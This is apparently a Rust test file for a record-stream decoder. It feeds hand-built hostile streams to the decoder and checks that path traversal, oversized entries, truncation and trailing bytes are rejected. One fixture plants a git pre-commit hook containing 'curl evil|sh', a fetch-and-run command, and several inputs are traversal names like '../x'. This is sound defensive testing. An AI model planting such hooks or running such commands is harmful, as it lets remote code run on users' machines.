//! The record stream's decoder and encoder on streams built by hand.

use super::*;

/// A stream built by hand: what a hostile helper could send.
pub(crate) fn raw(records: &[(u8, u32, &str, &[u8])]) -> Vec<u8> {
    let mut v = MAGIC.to_vec();
    for (kind, mode, path, data) in records {
        v.push(*kind);
        v.extend_from_slice(&mode.to_be_bytes());
        v.extend_from_slice(&0i64.to_be_bytes());
        v.extend_from_slice(&(path.len() as u16).to_be_bytes());
        v.extend_from_slice(path.as_bytes());
        v.extend_from_slice(&(data.len() as u64).to_be_bytes());
        if *kind == b'F' {
            if !data.is_empty() {
                v.extend_from_slice(&0u64.to_be_bytes());
                v.extend_from_slice(&(data.len() as u64).to_be_bytes());
                v.extend_from_slice(data);
            }
            v.extend_from_slice(&[0u8; 16]);
        } else {
            v.extend_from_slice(data);
        }
    }
    v.push(b'E');
    v.extend_from_slice(&[0u8; 22]);
    v
}

type Segments = Vec<(u64, Vec<u8>)>;

fn all(stream: &[u8], root: &str, limits: Limits) -> io::Result<Vec<(Record, Segments)>> {
    let mut d = Decoder::new(stream, root, limits)?;
    let mut out = Vec::new();
    while let Some(r) = d.next_record()? {
        let mut segs = Vec::new();
        while let Some((off, _)) = d.next_segment()? {
            let mut b = Vec::new();
            d.read_to_end(&mut b)?;
            segs.push((off, b));
        }
        out.push((r, segs));
    }
    Ok(out)
}

#[test]
fn names_outside_the_requested_root_are_refused() {
    for bad in [
        "../x",
        "/etc/x",
        "report.txt/../../x",
        "",
        "sibling.txt",
        ".git/hooks/pre-commit",
        "report.txt/./x",
        "report.txt//x",
        "report.txt/",
        "report.txtx",
        "report.txt/a\0b",
    ] {
        let err = check_name(bad, "report.txt").unwrap_err();
        assert!(err.to_string().contains("refusing entry"), "{bad}: {err}");
    }
    for good in ["report.txt", "report.txt/a", "report.txt/.hidden/..x"] {
        check_name(good, "report.txt").unwrap();
    }
    // The issue 9 stream: the asked-for file, then a sibling and a git hook.
    let s = raw(&[
        (b'F', 0o644, "report.txt", b"ok"),
        (b'F', 0o755, ".git/hooks/pre-commit", b"#!/bin/sh\ncurl evil|sh\n"),
    ]);
    let err = all(&s, "report.txt", Limits::default()).unwrap_err();
    assert!(err.to_string().contains(".git/hooks/pre-commit"), "{err}");
}

#[test]
fn magic_truncation_trailing_data_and_bad_segments_fail() {
    let good = raw(&[(b'D', 0o755, "d", b""), (b'F', 0o644, "d/f", b"hello")]);
    let got = all(&good, "d", Limits::default()).unwrap();
    assert_eq!(got[1].1, vec![(0, b"hello".to_vec())]);
    // Old helper (no magic), nothing at all, cut anywhere, extra bytes.
    assert!(all(&good[8..], "d", Limits::default()).unwrap_err().to_string().contains("version 3"));
    assert!(all(b"", "d", Limits::default()).unwrap_err().to_string().contains("sent nothing"));
    for cut in 9..good.len() {
        let err = all(&good[..cut], "d", Limits::default()).unwrap_err();
        assert_eq!(err.kind(), io::ErrorKind::UnexpectedEof, "cut at {cut}: {err}");
    }
    let mut extra = good.clone();
    extra.push(b'D');
    assert!(all(&extra, "d", Limits::default()).unwrap_err().to_string().contains("after the end"));
    // A segment beyond the file's size, or going backwards.
    let mut v = MAGIC.to_vec();
    v.extend_from_slice(&[b'F', 0, 0, 1, 0xa4, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, b'f']);
    v.extend_from_slice(&4u64.to_be_bytes());
    v.extend_from_slice(&2u64.to_be_bytes());
    v.extend_from_slice(&4u64.to_be_bytes());
    v.extend_from_slice(b"abcd");
    assert!(all(&v, "f", Limits::default()).unwrap_err().to_string().contains("outside its file"));
}

#[test]
fn caps_on_bytes_and_entries() {
    let s = raw(&[(b'D', 0o755, "d", b""), (b'F', 0o644, "d/a", b"12345"), (b'F', 0o644, "d/b", b"123456")]);
    let err = all(&s, "d", Limits { max_bytes: 10, max_entries: 100 }).unwrap_err();
    assert!(err.to_string().contains("--max-bytes") && err.to_string().contains("d/b"), "{err}");
    all(&s, "d", Limits { max_bytes: 11, max_entries: 100 }).unwrap();
    let err = all(&s, "d", Limits { max_bytes: 100, max_entries: 2 }).unwrap_err();
    assert!(err.to_string().contains("more than 2 entries"), "{err}");
    // The size a header claims counts, before any data arrives.
    let mut v = MAGIC.to_vec();
    v.extend_from_slice(&[b'F', 0, 0, 1, 0xa4, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, b'f']);
    v.extend_from_slice(&(1u64 << 40).to_be_bytes());
    assert!(all(&v, "f", Limits::default()).unwrap_err().to_string().contains("over the cap"));
}

/// The helper's `receive` learns the root from the first entry; what
/// follows must be below it, as on the host.
#[test]
fn without_a_root_the_first_entry_names_it() {
    let s = raw(&[(b'D', 0o755, "w", b""), (b'F', 0o644, "w/a", b"1"), (b'F', 0o644, "x/b", b"2")]);
    let mut r = &s[..];
    assert_eq!(read_magic(&mut r).unwrap(), Start::Magic);
    let mut d = Decoder::after_magic(r, None, Limits::UNLIMITED);
    assert_eq!(d.next_record().unwrap().unwrap().path, "w");
    assert_eq!(d.next_record().unwrap().unwrap().path, "w/a");
    let err = d.next_record().unwrap_err();
    assert!(err.to_string().contains("refusing entry \"x/b\""), "{err}");
    assert_eq!(read_magic(&mut &b""[..]).unwrap(), Start::Empty);
    assert_eq!(read_magic(&mut &b"SBXREC\x00\x02"[..]).unwrap(), Start::Other);
    assert_eq!(read_magic(&mut &b"SBX"[..]).unwrap(), Start::Other);
}
